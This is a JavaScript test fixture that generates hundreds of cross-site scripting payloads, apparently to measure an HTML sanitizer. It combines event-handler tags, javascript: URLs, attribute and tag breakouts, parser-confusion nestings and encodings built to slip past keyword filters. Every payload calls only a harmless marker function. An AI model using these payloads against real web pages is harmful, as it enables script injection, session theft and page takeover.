/**
 * Turns a table of our own into texts that run a script where text is taken as markup: element × handler × quoting × encoding × nesting.
 *
 *   PAYLOADS[n] = { text, context }     `text` calls top.ran(n) where it runs; `context` is the markup, with a § for the text, in which it does
 *
 * The control in attack.test.mjs writes each into its context and counts those that run, so that the number of payloads is a number of working ones.
 */

/** Markup that calls by itself: `@` stands for the call, in the quotes that the row of QUOTES says. Those marked `bare` need no handler's quotes. */
const HANDLERS = [
  "<img src=x onerror=@>", "<img src onerror=@ alt=法治>", "<svg onload=@>", "<svg/onload=@>", "<svg><svg onload=@></svg></svg>", "<image src=x onerror=@>", "<body onload=@>",
  "<video src=x onerror=@></video>", "<video><source onerror=@></video>", "<audio src=x onerror=@></audio>", "<audio><source src=x onerror=@></audio>",
  "<iframe onload=@></iframe>", "<object data=x onerror=@></object>", "<embed src=about:blank onload=@>", "<link rel=stylesheet href=x onerror=@>", "<script src=x onerror=@></script>",
  "<style onload=@></style>", "<details open ontoggle=@><summary>一</summary>件</details>", "<input type=image src=x onerror=@>", "<video poster=x onloadstart=@><source></video>",
  "<svg><animate onbegin=@ attributeName=x dur=1s></svg>", "<svg><set onbegin=@ attributeName=x dur=1s></svg>", "<svg><image href=x onerror=@></image></svg>",
  "<svg><style onload=@></style></svg>", "<input autofocus onfocus=@>", "<marquee onstart=@>件</marquee>", "<div onpointerrawupdate=1 style=animation-name:x onanimationstart=@>件</div>",
];
const BARE = [
  "<script>@</script>", "<ScRiPt>@</sCrIpT>", "<script\t>@</script\n>", "<script type=text/javascript>@</script>", "<script>//\n@</script>", "<svg><script>@</script></svg>", "<svg><script>/*<![CDATA[*/@/*]]>*/</script></svg>",
  "<iframe src=javascript:@></iframe>", "<iframe src=JaVaScRiPt:@></iframe>", "<iframe src='java\tscript:@'></iframe>", "<iframe src='java\nscript:@'></iframe>", "<iframe src='\x01javascript:@'></iframe>",
  "<iframe src='&#106;avascript:@'></iframe>", "<iframe src='javascript&colon;@'></iframe>", "<iframe src='&Tab;javascript:@'></iframe>", "<iframe srcdoc='<script>@</script>'></iframe>",
  "<iframe srcdoc='&lt;script&gt;@&lt;/script&gt;'></iframe>", "<iframe srcdoc='<svg/onload=@>'></iframe>", "<object data=javascript:@></object>", "<embed src=javascript:@>",
  "<a href=javascript:@>法</a>", "<a href='java&#10;script:@'>法</a>", "<a href='&#x6A;avascript&#58;@'>法</a>", "<svg><a href=javascript:@><text y=9>法</text></a></svg>", "<svg><a xlink:href=javascript:@><text y=9>法</text></a></svg>",
  "<form action=javascript:@><button>法</button></form>", "<form><button formaction=javascript:@>法</button></form>", "<form><input type=submit formaction=javascript:@></form>", "<math><mtext><a href=javascript:@>法</a></mtext></math>",
];

/** What surrounds the call, by how it is quoted. `&` and the quotes are for the reader of HTML. */
const QUOTES = [(call) => `"${call}"`, (call) => `'${call}'`, (call) => call, (call) => `" ${call} "`];

/** The same call, written so that a list of forbidden words misses it. */
const ENCODINGS = [
  (n) => `top.ran(${n})`,
  (n) => `top[\`r\\x61n\`](${n})`,
  (n) => `top.r\\u0061n(${n})`,
  (n) => `top.ran\`${n}\``,
  (n) => [...`top.ran(${n})`].map((c) => `&#${c.charCodeAt(0)};`).join(""),
  (n) => [...`top.ran(${n})`].map((c) => `&#x${c.charCodeAt(0).toString(16)}`).join(";") + ";",
  (n) => `top&period;ran&lpar;${n}&rpar;`,
];

/** Where markup lands when text is put between tags, into attributes, or where a parser changes its mind: what opens the way out, and the context. */
const NESTINGS = [
  ["", "§"], ["</p></div>", "<div><p>§</p></div>"], ['">', '<p title="§">一</p>'], ["'>", "<p title='§'>一</p>"], [">", "<p title=§>一</p>"], ["</title>", "<title>§</title>"],
  ["</textarea>", "<textarea>§</textarea>"], ["</style>", "<style>§</style>"], ["</script>", "<script>let words = '§'</script>"], ["-->", "<!-- § -->"], ["--!>", "<!-- § -->"],
  ["</noscript>", "<noscript>§</noscript>"], ["</xmp>", "<xmp>§</xmp>"], ["</iframe>", "<iframe>§</iframe>"], ["</select>", "<select><option>§</option></select>"],
  ["<table><tr><td>", "§"], ["<math><mtext>", "§"], ["<svg><desc>", "§"], ["<svg><foreignObject>", "§"], ["<svg></p>", "<p>§"], ["<math><annotation-xml encoding=text/html>", "§"],
  ["<form><math><mtext></form><form><mglyph><style></math>", "§"], ["<svg><style><a id='</style>", "<style>§</style>"], ["<select><keygen></select>", "§"],
  ["<!--><!-->", "§"], ["<![CDATA[>", "§"], ["<?xml >", "§"], ["一、《", "<h2>§</h2>"], ["\u202e＜", "<b>§</b>"], ["\0", "§"], ["<a title='</a>'></a>", "§"],
];

/** An attribute or a string in a script is left without any tag. */
const INSIDE = [
  ['" autofocus onfocus=@ x="', '<input value="§">'], ["' autofocus onfocus=@ x='", "<input value='§'>"], [" autofocus onfocus=@ ", "<input value=x§>"],
  ['x" onerror=@ alt="', '<img src="§">'], ["x' onerror=@ alt='", "<img src='§'>"], ["x onerror=@ ", "<img src=§>"], ['" onload=@ x="', '<svg class="§"></svg>'],
  ["javascript:@", '<iframe src="§"></iframe>'], ["javascript:@//", '<a href="§">法</a>'], ["JAVASCRIPT:@", "<a href='§'>法</a>"], ["\u0001javascript:@", '<a href="§">法</a>'],
];
const SCRIPTS = [
  ["'-@-'", "<script>let words = '§'</script>"], ['"-@-"', '<script>let words = "§"</script>'], ["${@}", "<script>let words = `§`</script>"], ["';@;//", "<script>let words = '§'</script>"],
  ["\n@\n", "<script>// §</script>"], ["*/@/*", "<script>/* § */</script>"], ["\u2028@", "<script>// §</script>"], ["\\'-@//", "<script>let words = '\\§'</script>"],
];

export const PAYLOADS = [];
function add(make, context) {
  const n = PAYLOADS.length;
  PAYLOADS.push({ text: make(n), context });
}

// Every element with every quoting; the encodings and the nestings take turns, so that each meets many elements, without the product of all five.
let turn = 0;
for (const handler of HANDLERS) {
  for (const quote of QUOTES) {
    const encode = ENCODINGS[turn % ENCODINGS.length], [way, context] = NESTINGS[turn % NESTINGS.length];
    turn++;
    add((n) => way + handler.replace("@", () => quote(encode(n))), context);
  }
}
// Inside a script's text entities are only characters; inside an address in quotes they are read.
for (const bare of BARE) {
  for (let k = 0; k < 3; k++) {
    const encode = ENCODINGS[[0, 2, 3][k]], [way, context] = NESTINGS[turn % NESTINGS.length];
    turn += 1;
    add((n) => way + bare.replace("@", () => encode(n)), context);
  }
}
for (const nesting of NESTINGS) {
  for (const handler of [HANDLERS[0], HANDLERS[2], HANDLERS[11]]) add((n) => nesting[0] + handler.replace("@", () => QUOTES[turn++ % 3](ENCODINGS[turn % ENCODINGS.length](n))), nesting[1]);
}
for (const [text, context] of INSIDE) for (const k of [0, 1, 3]) add((n) => text.replace("@", () => ENCODINGS[k](n)), context);
for (const [text, context] of SCRIPTS) for (const k of [0, 2, 3]) add((n) => text.replace("@", () => ENCODINGS[k](n)), context);
// Templates of frameworks: nothing here reads them; they stand for text that a page might fill in.
for (const text of ["{{constructor.constructor('@')()}}", "{{$on.constructor('@')()}}", "#{@}", "<%= @ %>", "${{@}}"]) add((n) => text.replace("@", ENCODINGS[0](n)), "§");

/** `list` in pieces of `size`. */
export const pieces = (list, size) => Array.from({ length: Math.ceil(list.length / size) }, (_, i) => list.slice(i * size, (i + 1) * size));
